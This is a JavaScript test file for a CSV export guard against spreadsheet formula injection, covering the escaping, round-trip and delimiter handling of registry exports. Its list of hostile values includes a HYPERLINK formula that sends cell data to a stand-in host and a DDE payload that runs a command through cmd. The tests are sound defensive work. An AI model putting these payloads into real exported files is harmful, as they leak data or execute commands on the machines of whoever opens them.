import { describe, expect, it } from 'vitest';
import { guardFormula, parseCsvText, toCsv, unguardFormula } from '../../src/core/csv.js';

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'=1", "''+x", '=', '-'];
const HARMLESS = ['Pelayanan cepat', "'biasa", "Jum'at", '-12', '-0,25', '+62', '3.5', '12%', 'a=b', ''];

describe('CSV formula injection guard', () => {
  it('prefixes an apostrophe to text a spreadsheet would evaluate, and nothing else', () => {
    for (const s of HOSTILE) expect(guardFormula(s), JSON.stringify(s)).toBe(`'${s}`);
    for (const s of HARMLESS) expect(guardFormula(s), JSON.stringify(s)).toBe(s);
  });

  it('unguardFormula is the exact inverse of guardFormula', () => {
    for (const s of [...HOSTILE, ...HARMLESS]) expect(unguardFormula(guardFormula(s))).toBe(s);
  });

  it('numbers stay numbers (a negative count is not text); strings are guarded', () => {
    const text = toCsv(['a', 'b', 'c'], [[-5, '-5x', '=1+1']]);
    expect(text).toBe("\uFEFFa,b,c\r\n-5,'-5x,'=1+1\r\n");
  });

  it('a value written and read back is unchanged, with every delimiter', () => {
    const values = [...HOSTILE, ...HARMLESS.filter(Boolean)];
    for (const d of [',', ';', '\t']) {
      // As the registry exports write typed text: it imports back exactly.
      const text = toCsv(['nilai', 'x'], values.map((v) => [v, 'x']), d, { desimalTeks: false });
      for (const line of text.split('\r\n').slice(1)) expect(line).not.toMatch(/^"?[=+\-@\t\r](?![\d,.]+%?"?[,;\t])/);
      const t = parseCsvText(text, 'uji.csv');
      expect(t.records.map((r) => r.values[0])).toEqual(values);
    }
  });

  it('a ;-separated report writes decimals with a comma, numbers and decimal text alike; , and tab keep the point', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[83.38, '3.5000', -0.25, '35.16.15']], ';')).toBe('\uFEFFa;b;c;d\r\n83,38;3,5000;-0,25;35.16.15\r\n');
    expect(toCsv(['a', 'b'], [[83.38, '3.5000']], ';', { desimalTeks: false })).toBe('\uFEFFa;b\r\n83,38;3.5000\r\n');
    for (const d of [',', '\t']) expect(toCsv(['a', 'b'], [[83.38, '3.5000']], d)).toBe(`\uFEFFa${d}b\r\n83.38${d}3.5000\r\n`);
  });
});
